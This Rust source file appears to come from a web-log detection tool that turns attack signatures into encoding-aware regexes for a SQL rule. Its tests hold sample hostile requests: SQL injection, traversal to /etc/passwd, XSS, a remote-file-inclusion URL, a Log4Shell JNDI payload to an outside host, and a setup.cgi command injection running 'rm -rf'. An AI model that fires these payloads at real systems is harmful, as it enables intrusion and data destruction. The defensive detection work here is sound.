//! The signatures of the `web_attack` rule (`queries/web_attack.sql`): requests whose URL,
//! percent-decoded up to twice (attackers double-encode to slip past filters) and lower-cased,
//! holds a signature of `queries/web_signatures.tsv`: SQL injection, path traversal, XSS,
//! command injection, remote file inclusion, sensitive files, known exploit and CVE paths,
//! admin-interface and WordPress probing, technology fingerprinting. The signatures are data
//! (category, severity, severity when answered 2xx, pattern, reference); the `signatures_file`
//! parameter replaces them with an analyst's own file of the same shape.
//!
//! The rule is SQL, so it runs on every engine the rules are exported to. No engine decodes URLs
//! alike (Spark's `url_decode` throws on a stray `%`), so the URL is not decoded: each pattern
//! becomes a regular expression over the raw URL that finds every encoded form of it
//! ([`url_regex`]), and the rule's data table (`-- data: web_signatures`) carries them inlined
//! as a `VALUES` list.

use std::sync::LazyLock;

use super::severity::Severity;

/// The built-in signature file.
pub const BUILTIN_SIGNATURES: &str = include_str!("../../queries/web_signatures.tsv");

/// One signature.
#[derive(Debug, Clone)]
pub struct Signature {
    pub category: String,
    pub severity: Severity,
    pub severity_2xx: Severity,
    /// Lower-case text looked for in the decoded, lower-cased URL.
    pub pattern: String,
    pub reference: String,
}

/// A loaded signature set.
#[derive(Clone)]
pub struct Signatures {
    pub list: Vec<Signature>,
}

impl Signatures {
    /// Parses the tab-separated file; `origin` names it in errors.
    pub fn parse(origin: &str, text: &str) -> Result<Signatures, String> {
        let mut list = Vec::new();
        let mut header_seen = false;
        for (n, line) in text.lines().enumerate() {
            if line.starts_with('#') || line.trim().is_empty() {
                continue;
            }
            let f: Vec<&str> = line.split('\t').collect();
            if !header_seen {
                header_seen = true;
                if f.first() == Some(&"category") {
                    continue;
                }
            }
            let [category, sev, sev2, pattern, reference] = f[..] else {
                return Err(format!("{origin}:{}: expected 5 tab-separated fields, found {}", n + 1, f.len()));
            };
            let severity = |s: &str| {
                Severity::parse(s)
                    .ok_or(format!("{origin}:{}: severity {s:?} is not low, medium, high or critical", n + 1))
            };
            if pattern.is_empty() || reference.trim().is_empty() {
                return Err(format!("{origin}:{}: a signature needs a pattern and a reference", n + 1));
            }
            list.push(Signature {
                category: category.to_string(),
                severity: severity(sev)?,
                severity_2xx: severity(sev2)?,
                pattern: pattern.to_lowercase(),
                reference: reference.to_string(),
            });
        }
        if list.is_empty() {
            return Err(format!("{origin}: no signatures"));
        }
        Ok(Signatures { list })
    }

    /// The built-in set.
    pub fn builtin() -> &'static Signatures {
        static S: LazyLock<Signatures> = LazyLock::new(|| {
            Signatures::parse("queries/web_signatures.tsv", BUILTIN_SIGNATURES).expect("built-in signatures parse")
        });
        &S
    }
}

/// The regexes of the match predicate: for the path and for the query (plain forms, every
/// encoded form), and for `path?query` (patterns holding a `?`).
struct MatchRegexes {
    path: (Option<String>, Option<String>),
    query: (Option<String>, Option<String>),
    across: Option<String>,
}

/// A severity as the rank the SQL rule compares (low 1 … critical 4).
fn rank(s: Severity) -> u8 {
    match s {
        Severity::Low => 1,
        Severity::Medium => 2,
        Severity::High => 3,
        Severity::Critical => 4,
    }
}

/// A character as a regex literal every engine the rules run on reads alike (Rust `regex`, RE2,
/// Java): metacharacters escaped with a backslash, the rest as they are.
fn literal(c: char) -> String {
    if "\\.+*?()|[]{}^$".contains(c) {
        format!("\\{c}")
    } else {
        c.to_string()
    }
}

/// Characters as a regex matching any one of them: `x`, or `[xX]` (letters only).
fn class(chars: &[char]) -> String {
    match chars {
        [c] => literal(*c),
        _ => format!("[{}]", chars.iter().collect::<String>()),
    }
}

/// The hexadecimal digit of a nibble in both cases (`b`, `B`).
fn hex_digit(n: u8) -> Vec<char> {
    let d = char::from_digit(u32::from(n), 16).unwrap_or('0');
    let up = d.to_ascii_uppercase();
    if up == d {
        vec![d]
    } else {
        vec![d, up]
    }
}

/// `%HH`, a byte percent-encoded (either case of a letter digit).
fn percent(b: u8) -> String {
    format!("%{}{}", class(&hex_digit(b >> 4)), class(&hex_digit(b & 15)))
}

/// What decodes once into one of the ASCII characters `set`: each as written, or `%HH`; with
/// `plus`, a `+` too for a space (the query's `+` is a space before it is decoded).
fn once_in(set: &[char], plus: bool) -> String {
    let mut alts = vec![class(set)];
    if plus && set.contains(&' ') {
        alts.push(literal('+'));
    }
    alts.extend(set.iter().map(|&c| percent(c as u8)));
    format!("(?:{})", alts.join("|"))
}

fn once(set: &[char]) -> String {
    once_in(set, false)
}

/// What decodes once into `%HH` for byte `b`, each of its three characters as written or
/// percent-encoded (`%2527`, `%%32%37`): decoded a second time, byte `b`.
fn twice(b: u8) -> String {
    format!("{}{}{}", once(&['%']), once(&hex_digit(b >> 4)), once(&hex_digit(b & 15)))
}

/// The regex that finds `pattern` (lower case) in a raw URL, in every form that percent-decoding
/// once or twice and lower-casing turn into it: each character as written in either case,
/// percent-encoded (`%27`), or that encoding encoded again, whole or digit by digit (`%2527`,
/// `%%32%37`). Run over `path?query` (the query's `+` already spaces), it finds what decoding
/// would show; with `plus`, over a query as written (a `+` standing for a space). It also fires on a pattern written out after a `%` that decoding would have taken
/// as an escape (`%1bench…`), a raw URL holding the pattern as text all the same. It uses only
/// what Rust `regex`, RE2 (DuckDB, Trino) and Java (Spark) read alike.
pub fn url_regex(pattern: &str, plus: bool) -> String {
    pattern.chars().map(|c| encoded_char(c, plus)).collect()
}

/// A character and its upper case (when that is one other character).
fn cases(c: char) -> Vec<char> {
    let mut set = vec![c];
    let mut up = c.to_uppercase();
    if let (Some(u), None) = (up.next(), up.next()) {
        if u != c {
            set.push(u);
        }
    }
    set
}

/// One pattern character in every form [`url_regex`] finds.
fn encoded_char(c: char, plus: bool) -> String {
    let set = cases(c);
    let mut alts;
    if set.iter().all(char::is_ascii) {
        alts = vec![once_in(&set, plus)];
        alts.extend(set.iter().map(|&x| twice(x as u8)));
    } else {
        // A character of several bytes: as written, or every byte encoded once, or twice.
        alts = vec![class(&set)];
        for x in &set {
            let mut buf = [0u8; 4];
            let bytes = x.encode_utf8(&mut buf).as_bytes();
            alts.push(bytes.iter().map(|&b| percent(b)).collect());
            alts.push(bytes.iter().map(|&b| twice(b)).collect());
        }
    }
    format!("(?:{})", alts.join("|"))
}

/// One pattern character as written, in either case (with `plus`, a `+` for a space): the forms
/// [`url_regex`] finds in a URL that holds no `%`.
fn plain_char(c: char, plus: bool) -> String {
    let mut set = cases(c);
    if plus && c == ' ' {
        set.push('+');
    }
    class(&set)
}

/// One regex finding any of `patterns`, `unit` writing each character, factored as a trie (a
/// shared prefix written once; a pattern that extends a shorter one adds nothing): a
/// backtracking engine (Java's, for Spark) then tries a branch per distinct first character at
/// each position instead of one per pattern, and the regex shrinks for every engine.
fn any_of(patterns: &[&str], unit: &dyn Fn(char) -> String) -> String {
    #[derive(Default)]
    struct Node {
        end: bool,
        kids: std::collections::BTreeMap<char, Node>,
    }
    fn emit(n: &Node, unit: &dyn Fn(char) -> String) -> String {
        if n.end {
            return String::new();
        }
        let alts: Vec<String> = n.kids.iter().map(|(c, k)| unit(*c) + &emit(k, unit)).collect();
        match alts.len() {
            1 => alts.into_iter().next().unwrap_or_default(),
            _ => format!("(?:{})", alts.join("|")),
        }
    }
    let mut root = Node::default();
    for p in patterns {
        let mut n = &mut root;
        for c in p.chars() {
            n = n.kids.entry(c).or_default();
        }
        n.end = true;
    }
    emit(&root, unit)
}

impl Signatures {
    /// The signatures as the rows of a SQL `VALUES` list: (category, severity rank, 2xx severity
    /// rank, pattern, reference, url_regex), ranks from low 1 to critical 4.
    pub fn values_sql(&self) -> String {
        use super::config::sql_string as q;
        self.list
            .iter()
            .map(|s| {
                format!(
                    "({}, {}, {}, {}, {}, {})",
                    q(&s.category),
                    rank(s.severity),
                    rank(s.severity_2xx),
                    q(&s.pattern),
                    q(&s.reference),
                    q(&url_regex(&s.pattern, false))
                )
            })
            .collect::<Vec<_>>()
            .join(",\n    ")
    }

    /// A SQL predicate over `events`, true when any signature matches the request's URL. The
    /// path and the query are each searched alone (cheaper than building `path?query` for every
    /// request) for every encoded form of the patterns ([`url_regex`]). With `short_circuit`
    /// (an engine that skips the second term of an AND where the first is false: DuckDB, Spark,
    /// Trino) the large regex runs only on a part holding a `%`, beside a small one for the
    /// patterns as written (either case): the same matches, a fraction of the work for a
    /// backtracking engine (Java's, for Spark). Patterns with a `?` (a match across the two
    /// parts) are searched in `path?query`.
    pub fn match_sql(&self, short_circuit: bool) -> String {
        use super::config::sql_string as q;
        let m = self.match_regexes();
        let mut parts = Vec::new();
        for (column, (plain, encoded)) in [("url_path", &m.path), ("url_query", &m.query)] {
            match (plain, encoded) {
                (Some(plain), Some(encoded)) if short_circuit => {
                    parts.push(format!("REGEXP_LIKE({column}, {})", q(plain)));
                    parts.push(format!("(REGEXP_LIKE({column}, '%') AND REGEXP_LIKE({column}, {}))", q(encoded)));
                }
                (_, Some(encoded)) => parts.push(format!("REGEXP_LIKE({column}, {})", q(encoded))),
                _ => {}
            }
        }
        if let Some(across) = &m.across {
            parts.push(format!(
                "REGEXP_LIKE(url_path || COALESCE('?' || REPLACE(url_query, '+', ' '), ''), {})",
                q(across)
            ));
        }
        format!("({})", parts.join(" OR "))
    }

    /// The regexes of [`Signatures::match_sql`].
    fn match_regexes(&self) -> MatchRegexes {
        let mut seen = std::collections::BTreeSet::new();
        let unique: Vec<&str> = self.list.iter().map(|s| s.pattern.as_str()).filter(|p| seen.insert(*p)).collect();
        let (across, within): (Vec<&str>, Vec<&str>) = unique.iter().partition(|p| p.contains('?'));
        let part = |plus: bool| {
            if within.is_empty() {
                return (None, None);
            }
            (Some(any_of(&within, &|c| plain_char(c, plus))), Some(any_of(&within, &|c| encoded_char(c, plus))))
        };
        MatchRegexes {
            path: part(false),
            query: part(true),
            across: (!across.is_empty()).then(|| any_of(&across, &|c| encoded_char(c, false))),
        }
    }

    /// Loads the set a rule names: the built-in one for an empty path, else the file.
    pub fn load(path: &str) -> Result<std::borrow::Cow<'static, Signatures>, String> {
        if path.is_empty() {
            return Ok(std::borrow::Cow::Borrowed(Signatures::builtin()));
        }
        let text = std::fs::read_to_string(path).map_err(|e| format!("{path}: {e}"))?;
        Signatures::parse(path, &text).map(std::borrow::Cow::Owned)
    }
}

/// A `web_attack` finding's `requests_by_category` detail (`"path_traversal: 4, xss: 1"`) as
/// (category, requests) pairs.
pub fn category_counts(text: &str) -> Vec<(String, u64)> {
    text.split(", ")
        .filter_map(|part| part.rsplit_once(": "))
        .filter_map(|(cat, n)| Some((cat.to_string(), n.trim().parse().ok()?)))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What the URL holds once percent-decoded twice (`+` in the query a space first) and
    /// lower-cased: the meaning [`url_regex`] stands for.
    fn decode(path: &str, query: Option<&str>) -> String {
        let once = |s: &str| percent_encoding::percent_decode_str(s).decode_utf8_lossy().into_owned();
        let mut text = once(&once(path));
        if let Some(q) = query {
            text.push('?');
            text.push_str(&once(&once(&q.replace('+', " "))));
        }
        text.to_lowercase()
    }

    /// The raw URL as the rule matches it: `path?query`, the query's `+` spaces.
    fn raw(path: &str, query: Option<&str>) -> String {
        match query {
            Some(q) => format!("{path}?{}", q.replace('+', " ")),
            None => path.to_string(),
        }
    }

    /// The categories whose signatures match a raw URL, as the SQL rule finds them.
    fn cats(path: &str, query: Option<&str>) -> Vec<String> {
        let url = raw(path, query);
        let mut out: Vec<String> = Signatures::builtin()
            .list
            .iter()
            .filter(|s| regex::Regex::new(&url_regex(&s.pattern, false)).unwrap().is_match(&url))
            .map(|s| s.category.clone())
            .collect();
        out.dedup();
        out
    }

    #[test]
    fn double_encoding_is_seen_through() {
        assert_eq!(
            cats("/products", Some("id=1%2520UNION%2520SELECT%2520password%2520FROM%2520users")),
            ["sql_injection"]
        );
        assert_eq!(cats("/products", Some("id=1+UNION+SELECT+password")), ["sql_injection"]);
        assert_eq!(cats("/index.php", Some("page=..%2F..%2Fetc%2Fpasswd")), ["path_traversal"]);
        assert_eq!(cats("/index.php", Some("page=%252e%252e%252fetc%252fpasswd")), ["path_traversal"]);
        assert_eq!(cats("/index.php", Some("page=%%32%65%%32%65/etc/passwd")), ["path_traversal"]);
        assert_eq!(cats("/search", Some("q=%3Cscript%3Ealert(1)%3C/script%3E")), ["xss"]);
        assert_eq!(cats("/search", Some("q=%3CScRiPt%3E")), ["xss"]);
        assert_eq!(cats("/.git/config", None), ["sensitive_file"]);
        assert!(cats("/products", Some("page=2&sort=price")).is_empty());
        assert!(cats("/img/logo.png", None).is_empty());
        assert!(cats("/union", Some("select=1")).is_empty(), "the words apart are no injection");
    }

    #[test]
    fn probes_beyond_injection() {
        assert_eq!(cats("/index.php", Some("file=http://198.51.100.9/shell.txt")), ["rfi"]);
        assert_eq!(cats("/_ignition/execute-solution", None), ["exploit"]);
        assert_eq!(cats("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None), ["exploit"]);
        assert_eq!(cats("/boaform/admin/formLogin", Some("username=admin&psd=Feefifofum")), ["exploit"]);
        assert_eq!(cats("/HNAP1/", None), ["exploit"]);
        assert_eq!(cats("/GponForm/diag_Form", Some("images/")), ["exploit"]);
        assert_eq!(cats("/actuator/gateway/routes", None), ["exploit"]);
        assert_eq!(cats("/setup.cgi", Some("next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*")), ["exploit"]);
        assert_eq!(cats("/phpMyAdmin/index.php", None), ["admin_probe"]);
        assert_eq!(cats("/manager/html", None), ["admin_probe"]);
        assert_eq!(cats("/wp-login.php", None), ["wordpress"]);
        assert_eq!(cats("/xmlrpc.php", None), ["wordpress"]);
        assert_eq!(cats("/wp-content/plugins/wp-file-manager/readme.txt", None), ["wordpress"]);
        assert_eq!(cats("/", Some("x=${jndi:ldap://198.51.100.9/a}")), ["exploit"]);
        assert_eq!(cats("/", Some("x=%24%7Bjndi:ldap://198.51.100.9/a%7D")), ["exploit"]);
        assert_eq!(cats("/info.php", None), ["tech_fingerprint"]);
    }

    /// Every pattern, written in the ways attackers hide it, is found exactly when decoding
    /// shows it; a small deterministic generator adds mixed and broken encodings.
    #[test]
    fn the_regex_finds_what_decoding_shows() {
        let enc1 = |s: &str| s.bytes().map(|b| format!("%{b:02X}")).collect::<String>();
        let enc1_lower = |s: &str| s.bytes().map(|b| format!("%{b:02x}")).collect::<String>();
        let enc2 = |s: &str| s.bytes().map(|b| format!("%25{b:02X}")).collect::<String>();
        let digitwise = |s: &str| s.bytes().map(|b| format!("%{}", enc1(&format!("{b:02x}")))).collect::<String>();
        let mut rng = 0x2545_f491_4f6c_dd1du64;
        let mut next = move |n: usize| {
            rng ^= rng << 13;
            rng ^= rng >> 7;
            rng ^= rng << 17;
            (rng % n as u64) as usize
        };
        for sig in &Signatures::builtin().list {
            let re = regex::Regex::new(&url_regex(&sig.pattern, false)).unwrap();
            let p = &sig.pattern;
            let upper = p.to_uppercase();
            for form in [p.clone(), upper.clone(), enc1(p), enc1_lower(&upper), enc2(p), digitwise(p), enc2(&upper)] {
                let path = format!("/a{}", form.replace('?', "%3F").replace('#', "%23"));
                assert!(decode(&path, None).contains(p.as_str()), "{path} should decode to hold {p}");
                assert!(re.is_match(&raw(&path, None)), "{p} missed in {path}");
            }
            // Each character in its own form, with noise around.
            for _ in 0..20 {
                let mut form = String::from("/x?");
                for c in p.chars() {
                    let s = if next(2) == 0 { c.to_string() } else { c.to_uppercase().to_string() };
                    form += &match next(4) {
                        0 => s.replace('?', "%3F").replace('#', "%23").replace('+', "%2B").replace('&', "%26"),
                        1 => enc1(&s),
                        2 => enc2(&s),
                        _ => digitwise(&s),
                    };
                }
                let (path, query) = form.split_once('?').unwrap();
                let shown = decode(path, Some(query)).contains(p.as_str());
                assert!(shown, "{form} should decode to hold {p}");
                assert!(re.is_match(&raw(path, Some(query))), "{p} missed in {form}");
            }
        }
        // Random URLs of pattern pieces, escapes and stray percent signs: whatever decoding
        // shows, the regex finds.
        let pieces =
            ["%", "%2", "%25", "%27", "'", " or ", "+", "1=1", "%3d", "..", "/", "%2f", "etc", "passwd", "A", "%41"];
        let sigs: Vec<(String, regex::Regex, regex::Regex)> = Signatures::builtin()
            .list
            .iter()
            .map(|s| {
                (
                    s.pattern.clone(),
                    regex::Regex::new(&url_regex(&s.pattern, false)).unwrap(),
                    regex::Regex::new(&url_regex(&s.pattern, true)).unwrap(),
                )
            })
            .collect();
        for _ in 0..3000 {
            let q: String = (0..next(12)).map(|_| pieces[next(pieces.len())]).collect();
            let decoded = decode("/p", Some(&q));
            for (p, re, re_plus) in &sigs {
                if decoded.contains(p.as_str()) {
                    assert!(re.is_match(&raw("/p", Some(&q))), "{p} missed in /p?{q} ({decoded})");
                    assert!(re_plus.is_match(&q), "{p} missed in the query {q} as written ({decoded})");
                }
            }
        }
    }

    /// The match predicate (its regexes, combined as the SQL combines them) against the union of
    /// the signatures' own regexes, on every pattern's forms and on generated URLs.
    #[test]
    fn the_match_predicate_is_the_union_of_the_signatures() {
        let sigs = Signatures::builtin();
        let m = sigs.match_regexes();
        let re = |s: &Option<String>| regex::Regex::new(s.as_deref().unwrap()).unwrap();
        let (pp, pe, qp, qe) = (re(&m.path.0), re(&m.path.1), re(&m.query.0), re(&m.query.1));
        assert!(m.across.is_none());
        let predicate = |path: &str, query: Option<&str>| {
            let part = |v: &str, plain: &regex::Regex, enc: &regex::Regex| {
                plain.is_match(v) || (v.contains('%') && enc.is_match(v))
            };
            part(path, &pp, &pe) || query.is_some_and(|q| part(q, &qp, &qe))
        };
        let each: Vec<regex::Regex> =
            sigs.list.iter().map(|s| regex::Regex::new(&url_regex(&s.pattern, false)).unwrap()).collect();
        let union = |path: &str, query: Option<&str>| each.iter().any(|r| r.is_match(&raw(path, query)));
        let mut urls: Vec<(String, Option<String>)> = Vec::new();
        for s in &sigs.list {
            let p = &s.pattern;
            let enc = |t: &str| t.bytes().map(|b| format!("%25{b:02x}")).collect::<String>();
            urls.push((format!("/{}", p.replace('?', "%3F")), None));
            urls.push(("/x".into(), Some(p.to_uppercase().replace(' ', "+"))));
            urls.push(("/x".into(), Some(enc(p))));
            urls.push((format!("/{}", enc(&p[..p.len() / 2])), Some(p[p.len() / 2..].to_string())));
        }
        let pieces = [
            "%", "%2", "%25", "%27", "'", " or ", "+", "1=1", "%3d", "..", "/", "%2f", "etc", "passwd", "A", "%41",
            "wp-", "login",
        ];
        let mut rng = 0x9e37_79b9_7f4a_7c15u64;
        for _ in 0..3000 {
            let mut next = |n: usize| {
                rng ^= rng << 13;
                rng ^= rng >> 7;
                rng ^= rng << 17;
                (rng % n as u64) as usize
            };
            let path: String = (0..next(6)).map(|_| pieces[next(pieces.len())]).collect();
            let query: String = (0..next(8)).map(|_| pieces[next(pieces.len())]).collect();
            urls.push((format!("/{path}"), (!query.is_empty()).then_some(query)));
        }
        let mut hits = 0;
        for (path, query) in &urls {
            let (a, b) = (predicate(path, query.as_deref()), union(path, query.as_deref()));
            assert_eq!(a, b, "{path} ? {query:?}");
            hits += usize::from(a);
        }
        assert!(hits > 300, "the generated URLs exercise matches: {hits} of {}", urls.len());
    }

    #[test]
    fn the_regexes_run_on_rust_and_stay_small() {
        let s = Signatures::builtin();
        assert!(!s.match_sql(false).contains("'%') AND"), "polars runs one regex a part");
        let pred = s.match_sql(true);
        assert!(pred.len() < 400_000, "{} bytes", pred.len());
        assert!(pred.starts_with("(REGEXP_LIKE(url_path, '") && pred.contains(" OR REGEXP_LIKE(url_query, '"));
        assert!(pred.contains(" OR (REGEXP_LIKE(url_path, '%') AND REGEXP_LIKE(url_path, '"));
        assert!(!pred.contains("COALESCE"), "no built-in pattern holds a `?`");
        let any: Vec<String> = s.list.iter().map(|x| url_regex(&x.pattern, false)).collect();
        let re = regex::Regex::new(&any.join("|")).unwrap();
        assert!(re.is_match("/wp-login.php") && re.is_match("/?id=%2527%20or%201=1"));
        assert!(!re.is_match("/products/42?page=3&sort=price"));
        let values = s.values_sql();
        assert_eq!(values.lines().count(), s.list.len());
        assert!(values.contains("('sql_injection', 2, 3, ''' or ''', "), "quotes doubled: {}", &values[..200]);
        // A pattern across the path and the query is searched in `path?query`.
        let own = Signatures::parse("x.tsv", "exploit\thigh\thigh\t/setup.cgi?todo\tref\n").unwrap();
        assert!(own.match_sql(false).contains("COALESCE('?' || REPLACE(url_query, '+', ' '), '')"));
    }

    #[test]
    fn category_counts_read_back() {
        assert_eq!(
            category_counts("path_traversal: 4, xss: 1"),
            [("path_traversal".to_string(), 4), ("xss".to_string(), 1)]
        );
        assert!(category_counts("").is_empty());
    }

    #[test]
    fn signature_files_are_checked() {
        assert!(Signatures::parse("x.tsv", "category\tseverity\tseverity_2xx\tpattern\treference\n").is_err());
        let e = Signatures::parse("x.tsv", "xss\thuge\thigh\t<script\tref\n").err().unwrap();
        assert!(e.contains("x.tsv:1") && e.contains("huge"), "{e}");
        assert!(Signatures::parse("x.tsv", "xss\tlow\thigh\t<script\n").is_err(), "missing column");
        let s = Signatures::parse("x.tsv", "# c\nxss\tlow\thigh\t<SCRIPT\tref\n").unwrap();
        assert_eq!(s.list[0].pattern, "<script");
        assert!(regex::Regex::new(&url_regex(&s.list[0].pattern, true)).unwrap().is_match("q=%3cScript"));
    }
}
